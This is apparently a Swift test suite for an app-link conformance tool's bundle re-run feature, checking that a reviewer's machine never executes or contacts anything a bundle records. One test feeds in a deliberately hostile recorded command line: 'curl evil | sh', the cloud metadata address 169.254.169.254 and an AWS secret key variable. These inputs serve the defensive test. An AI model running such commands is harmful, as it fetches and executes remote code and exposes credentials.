import AppFlipEvidence
import AppFlipReporting
import AppFlipTestSupport
import Foundation
import Testing

@testable import AppFlipCLI

/// `verify --rerun`: the reviewer runs the bundle's cases again against the target the reviewer names, and every
/// verdict is compared with the recorded one. Nothing the bundle records is executed, contacted or passed on.
@Suite("The reviewer's re-run", .serialized)
struct BundleRerunTests {
    private func run(_ arguments: [String]) -> (status: Int32, out: String, err: String) {
        let captured = Captured()
        let status = Command.main(arguments, console: captured.console)
        return (status, captured.out, captured.err)
    }

    private func scratch(_ name: String) throws -> String {
        let directory = FileManager.default.temporaryDirectory.appendingPathComponent("\(name)-\(UUID().uuidString)").path
        try FileManager.default.createDirectory(atPath: directory, withIntermediateDirectories: true)
        return directory
    }

    /// A link handler whose behaviour depends on a file that is none of its arguments: the reference app while
    /// `switch` exists, an app that declines every link once it is gone. Its own bytes never change.
    private func switchingAdapter(in directory: String) throws -> (script: String, switch: String) {
        let script = directory + "/adapter.sh"
        let flag = directory + "/switch"
        let decline =
            "import json, sys\nfor line in sys.stdin:\n    r = json.loads(line)\n    print(json.dumps({'id': r['id'], 'action': 'decline'}), flush=True)\n"
        try decline.write(toFile: directory + "/decline.py", atomically: true, encoding: .utf8)
        try
            "#!/bin/sh\nif [ -e \"\(flag)\" ]; then exec \"\(BuiltProducts.path("appflip-reference"))\"; fi\nexec python3 \"\(directory)/decline.py\"\n"
            .write(toFile: script, atomically: true, encoding: .utf8)
        try "on".write(toFile: flag, atomically: true, encoding: .utf8)
        return (script, flag)
    }

    /// The reviewer's words for the target `partnerRun` tested: the same adapter, named by the reviewer.
    private func reviewerTarget(_ script: String) -> [String] {
        ["--link", "https://app.example/flip", "--client-id", "google-client", "--", "/bin/sh", script]
    }

    private func partnerRun(_ script: String, _ directory: String, _ extra: [String] = []) -> (status: Int32, out: String, err: String) {
        run(
            [
                "run", "--link", "https://app.example/flip", "--client-id", "google-client", "--filter", "app-link/baseline",
                "--cases", PackageRoot.cases, "--catalog", PackageRoot.catalog, "--reports", directory + "/reports",
                "--bundle", directory + "/bundle.tar",
            ] + extra + ["--", "/bin/sh", script])
    }

    @Test("The same target gives the same verdicts: reproduced N of N, verified; one shard of a run too")
    func reproduced() throws {
        let directory = try scratch("rerun")
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let (script, _) = try switchingAdapter(in: directory)
        let first = partnerRun(script, directory, ["--filter", "app-link/parameters", "--shard", "1/2", "--jobs", "2"])
        #expect(first.status == 0, "\(first.err.suffix(1500))")
        let count = try ResultsDocument.load(run: directory + "/reports").document.cases.count
        #expect(count > 0)
        let verify = run(["verify", directory + "/bundle.tar", "--rerun", "--reports", directory + "/again"] + reviewerTarget(script))
        #expect(verify.status == 0, "\(verify.out)\n\(verify.err.suffix(1500))")
        #expect(verify.out.contains("re-run result: reproduced \(count) of \(count)\nverified"), "\(verify.out)")
        // What is about to run is said before it runs: the adapter with its digest, as the bundle records it.
        #expect(verify.out.contains("re-run plan (the target you named; nothing of it comes from the bundle):"), "\(verify.out)")
        #expect(verify.out.contains("  link handler: \(script) sha256 ") && verify.out.contains("(as the bundle records)"), "\(verify.out)")
        #expect(verify.out.contains("time limit \(BundleRerun.defaultTimeLimit) s in all"), "\(verify.out)")
        // The re-run's reports are kept where asked; it ran exactly the bundle's cases, with a fresh seed.
        let again = try ResultsDocument.load(run: directory + "/again").document
        let recorded = try ResultsDocument.load(run: directory + "/reports").document
        #expect(again.cases.map(\.id) == recorded.cases.map(\.id))
        #expect(again.run.seed != recorded.run.seed)
        // --seed is the reviewer's to give.
        let seeded = run(
            ["verify", directory + "/bundle.tar", "--rerun", "--seed", "99", "--reports", directory + "/seeded"] + reviewerTarget(script))
        #expect(seeded.status == 0, "\(seeded.out)")
        #expect(try ResultsDocument.load(run: directory + "/seeded").document.run.seed == 99)
    }

    @Test("A target that now behaves otherwise: each case that differs, with both verdicts, and NOT verified")
    func differs() throws {
        let directory = try scratch("rerun-differs")
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let (script, flag) = try switchingAdapter(in: directory)
        #expect(partnerRun(script, directory).status == 0)
        // An honest bundle verifies without the re-run; the target it records no longer earns its verdicts.
        #expect(run(["verify", directory + "/bundle.tar"]).status == 0)
        try FileManager.default.removeItem(atPath: flag)
        let verify = run(["verify", directory + "/bundle.tar", "--rerun"] + reviewerTarget(script))
        #expect(verify.status == 1, "\(verify.out)")
        let recorded = try ResultsDocument.load(run: directory + "/reports").document
        let lines = verify.out.split(separator: "\n").map(String.init)
        let summary = try #require(lines.first { $0.hasPrefix("re-run result: ") }, "\(verify.out)")
        #expect(
            summary.hasPrefix("re-run result: reproduced ") && summary.hasSuffix("differ:") && summary.contains(" of \(recorded.cases.count); "),
            "\(summary)")
        let differing = lines.filter { $0.hasPrefix("  ") && $0.contains(": recorded pass, re-run fail (") }
        #expect(!differing.isEmpty, "\(verify.out)")
        #expect(lines.last == "NOT verified")
    }

    @Test("An adapter whose file changed since the run is refused before anything runs")
    func swappedAdapter() throws {
        let directory = try scratch("rerun-swapped")
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let (script, _) = try switchingAdapter(in: directory)
        #expect(partnerRun(script, directory).status == 0)
        let handle = try FileHandle(forWritingTo: URL(fileURLWithPath: script))
        try handle.seekToEnd()
        try handle.write(contentsOf: Data("# another program now\n".utf8))
        try handle.close()
        let verify = run(["verify", directory + "/bundle.tar", "--rerun"] + reviewerTarget(script))
        #expect(verify.status == 1)
        #expect(verify.out.contains("re-run result: NOT RUN: your link handler \(script) hashes sha256 "), "\(verify.out)")
        #expect(verify.out.contains("another program would be judged, so nothing was re-run"), "\(verify.out)")
        #expect(!verify.err.contains("re-running"), "nothing ran: \(verify.err)")
        #expect(verify.out.hasSuffix("NOT verified\n") || verify.out.hasSuffix("NOT verified"), "\(verify.out)")
    }

    @Test("The re-run's command line is the reviewer's words and the bundle's case selection: nothing of the recorded command")
    func arguments() throws {
        // A recorded command line with everything a bundle could use against the reviewer: a shell adapter, a URL
        // on the reviewer's network, a variable of theirs, 50 minutes a case, a redacted value.
        let recordedWords = [
            "--link", "https://app.example/flip", "--handler-url", "http://169.254.169.254/latest", "--handler-env", "AWS_SECRET_ACCESS_KEY",
            "--timeout", "3000", "--jobs", "1", "--seed", "7", "--", "/bin/sh", "-c", "curl evil | sh", "token=‹redacted hmac:ab›",
        ]
        var document = try ResultsDocument.parse(Data(Self.minimalResults.utf8))
        document.run.arguments = recordedWords
        document.run.target = "the partner's iOS app"
        let reviewer = ["--target", "reference", "--timeout", "5"]
        let words = BundleRerun.arguments(reviewer, recorded: document, suite: "/x", reports: "/x/reports")
        #expect(
            words == [
                "--target", "reference", "--timeout", "5", "--cases", "/x/cases", "--catalog", "/x/catalog/requirements.catalog",
                "--profile=app-link", "--time-limit", "\(BundleRerun.defaultTimeLimit)", "--reports", "/x/reports", "--quiet", "--color", "never",
            ])
        for word in recordedWords where !["--link", "--timeout", "--jobs", "--seed", "--", "https://app.example/flip"].contains(word) {
            #expect(!words.contains(word), "\(word) came from the bundle")
        }
        // The reviewer's own bound stays theirs; the adapter command stays last; a certification selects by program.
        document.run.certification = true
        document.run.certificationPrograms = ["app-flip-ios", "native-client"]
        let mine = BundleRerun.arguments(["--time-limit", "60", "--", "./mine"], recorded: document, suite: "/x", reports: "/r")
        #expect(
            mine == [
                "--time-limit", "60", "--certification=app-flip-ios,native-client", "--reports", "/r", "--quiet", "--color", "never", "--", "./mine",
            ])
    }

    /// A results.json of one passing app-link case, as `arguments` reads it.
    private static let minimalResults = """
        {"schema": "appflip-conformance/results", "version": 2,
         "suite": {"version": "0.3.0", "cases_digest": "x", "case_files": 1},
         "run": {"seed": 1, "target": "t", "mode": "one-shot", "jobs": 1, "duration_seconds": 0, "command": "c", "transport": [],
                 "incomplete": false},
         "outcome": {"verdict": "pass", "exit_code": 0, "counts": {}, "configuration_problems": []},
         "profiles": [], "requirements": [],
         "cases": [{"id": "app-link/x", "title": "x", "profile": "app-link", "group": "g", "file": "f", "line": 1, "scenario": "s",
                    "verdict": "pass", "duration_seconds": 0, "checks": [], "evidence": {"exchanges": []}}]}
        """

    @Test("Nothing a bundle records runs on the reviewer's machine: an adapter script that leaves a mark is not started unless the reviewer names it")
    func nothingOfTheBundleRuns() throws {
        let directory = try scratch("rerun-marks")
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let mark = directory + "/ran"
        let script = directory + "/marking.sh"
        try "#!/bin/sh\necho ran >> \"\(mark)\"\nexec \"\(BuiltProducts.path("appflip-reference"))\"\n"
            .write(toFile: script, atomically: true, encoding: .utf8)
        #expect(partnerRun(script, directory).status == 0)
        #expect(FileManager.default.fileExists(atPath: mark), "the partner's run started the script")
        try FileManager.default.removeItem(atPath: mark)
        let bundle = directory + "/bundle.tar"
        // No target named: nothing runs, and the reviewer is told what to name.
        let bare = run(["verify", bundle, "--rerun"])
        #expect(bare.status == 1 && bare.out.contains("re-run result: NOT RUN: name the target to re-run against"), "\(bare.out)")
        // Another target than the recorded adapter: refused before anything starts.
        let reference = run(["verify", bundle, "--rerun", "--target", "reference"])
        #expect(reference.status == 1, "\(reference.out)")
        #expect(reference.out.contains("re-run result: NOT RUN: your link handler "), "\(reference.out)")
        #expect(
            reference.out.contains("which the bundle does not record for its link handler (it records link handler: /bin/sh sha256 "),
            "\(reference.out)")
        // A bundle signed by a key the reviewer does not trust: not re-run at all.
        let keys = try scratch("rerun-keys")
        defer { try? FileManager.default.removeItem(atPath: keys) }
        _ = try ProgramRun.run("/usr/bin/openssl", ["genpkey", "-algorithm", "ed25519", "-out", keys + "/other.pem"])
        _ = try ProgramRun.run("/usr/bin/openssl", ["pkey", "-in", keys + "/other.pem", "-pubout", "-out", keys + "/other.pub"])
        let untrusted = run(["verify", bundle, "--trusted-key", keys + "/other.pub", "--rerun"] + reviewerTarget(script))
        #expect(untrusted.status == 1 && untrusted.out.contains("re-run result: NOT RUN: the bundle did not verify (above)"), "\(untrusted.out)")
        // An edited bundle: not re-run either.
        var entries = try TarArchive.read(Array(try Data(contentsOf: URL(fileURLWithPath: bundle))))
        let index = try #require(entries.firstIndex { $0.path == "reports/report.md" })
        entries[index].bytes += Array("edited\n".utf8)
        try Data(try TarArchive.write(entries)).write(to: URL(fileURLWithPath: directory + "/edited.tar"))
        let edited = run(["verify", directory + "/edited.tar", "--rerun"] + reviewerTarget(script))
        #expect(edited.status == 1 && edited.out.contains("re-run result: NOT RUN: the bundle did not verify (above)"), "\(edited.out)")
        #expect(!FileManager.default.fileExists(atPath: mark), "a re-run started the bundle's adapter")
        // The reviewer naming that same script is what runs it: the mark shows this test would see a start.
        let named = run(["verify", bundle, "--rerun"] + reviewerTarget(script))
        #expect(named.status == 0, "\(named.out)")
        #expect(FileManager.default.fileExists(atPath: mark))
    }

    @Test("A bundle that records no adapter (a handler URL) refuses the reviewer's adapter; its URL is never contacted")
    func unrecordedAdapterAndURL() throws {
        let directory = try scratch("rerun-url")
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let server = try RecordingServer { _ in RecordingServer.ok("{}", headers: "Content-Type: application/json\r\n") }
        defer { server.stop() }
        let recorded = run(
            [
                "run", "--link", "https://app.example/flip", "--client-id", "google-client", "--filter", "app-link/baseline",
                "--cases", PackageRoot.cases, "--catalog", PackageRoot.catalog, "--reports", directory + "/reports",
                "--bundle", directory + "/bundle.tar", "--handler-url", "http://127.0.0.1:\(server.port)/handler", "--timeout", "1",
            ])
        #expect(recorded.status != 2, "\(recorded.err)")
        let before = server.requests.count
        #expect(before > 0)
        let (script, _) = try switchingAdapter(in: directory)
        let verify = run(["verify", directory + "/bundle.tar", "--rerun"] + reviewerTarget(script))
        #expect(verify.status == 1, "\(verify.out)")
        #expect(verify.out.contains("which the bundle does not record for its link handler (it records none)"), "\(verify.out)")
        #expect(server.requests.count == before, "the re-run contacted the bundle's handler URL")
    }

    @Test("run --time-limit starts no case after the limit: the rest are left out and the run is incomplete (exit 130)")
    func timeLimit() throws {
        let directory = try scratch("time-limit")
        defer { try? FileManager.default.removeItem(atPath: directory) }
        let slow = directory + "/slow.py"
        try
            "import json, sys, time\nfor line in sys.stdin:\n    r = json.loads(line)\n    time.sleep(0.4)\n    print(json.dumps({'id': r['id'], 'action': 'decline'}), flush=True)\n"
            .write(toFile: slow, atomically: true, encoding: .utf8)
        let result = run(
            [
                "run", "--link", "https://app.example/flip", "--client-id", "google-client", "--profile", "app-link", "--jobs", "1",
                "--mode", "persistent", "--time-limit", "1", "--quiet", "--reports", directory + "/reports", "--", "python3", slow,
            ])
        #expect(result.status == 130, "\(result.out)\n\(result.err)")
        #expect(result.err.contains("time limit: 1 s reached after "), "\(result.err)")
        let document = try ResultsDocument.load(run: directory + "/reports").document
        #expect(document.run.incomplete && document.cases.count < 20, "\(document.cases.count)")
        let refused = run(["run", "--target", "reference", "--time-limit", "0"])
        #expect(refused.status == 2 && refused.err.contains("--time-limit takes a number from 1 to 604800"), "\(refused.err)")
    }

    @Test("Target options belong to --rerun")
    func targetWithoutRerun() {
        let result = run(["verify", "bundle.tar", "--target", "reference"])
        #expect(result.status == 2 && result.err.contains("--target names the target of a re-run: give --rerun too"), "\(result.err)")
    }

    @Test("--reports belongs to --rerun")
    func reportsWithoutRerun() {
        let result = run(["verify", "bundle.tar", "--reports", "somewhere"])
        #expect(result.status == 2 && result.err.contains("--reports is where --rerun writes its reports: give --rerun too"), "\(result.err)")
    }
}
